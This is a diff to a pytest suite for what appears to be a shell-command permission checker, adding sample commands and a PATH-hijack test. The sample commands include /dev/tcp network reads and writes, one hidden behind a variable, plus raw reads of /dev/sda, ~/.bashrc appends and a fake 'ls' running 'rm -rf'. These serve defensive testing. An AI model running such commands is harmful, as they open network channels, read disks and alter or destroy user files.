@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
@@ -125,6 +126,11 @@ echo <(rm x)
 git status
 echo x >> ~/.bashrc
 echo x > /dev/tcp/1.2.3.4/80
+cat < /dev/tcp/1.2.3.4/80
+x=/dev/tcp/1.2.3.4/80; cat < $x
+getent hosts secret.example.com
+lspci -q
+head -c 9 /dev/sda
 """.strip("\n").splitlines()
 
 DENY = r"""
@@ -170,15 +176,11 @@ def test_a_program_from_elsewhere_is_asked_about(tmp_path: Path) -> None:
     (tmp_path / "ls").write_text("#!/bin/sh\nrm -rf x\n")
     (tmp_path / "ls").chmod(0o755)
     table = {**RULES.environment, "PATH": f"{tmp_path}:/usr/bin"}
-    rules = Rules(
-        read=RULES.read,
-        trusted_folders=RULES.trusted_folders,
-        secret=RULES.secret,
-        harmless_variable=RULES.harmless_variable,
-        environment=table,
-    )
+    rules = replace(RULES, environment=table)
     assert "system folder" in rules.judge(inspect("ls"), "/").reasons[0]
     assert rules.judge(inspect("cat x"), "/").tier == Tier.READ
+    here = replace(rules, environment={**RULES.environment, "PATH": f".:{RULES.environment['PATH']}"})
+    assert here.judge(inspect("cd /tmp && cat x"), "/").tier == Tier.ASK
 
 
 def proposal(wanted: Tier) -> Proposal:
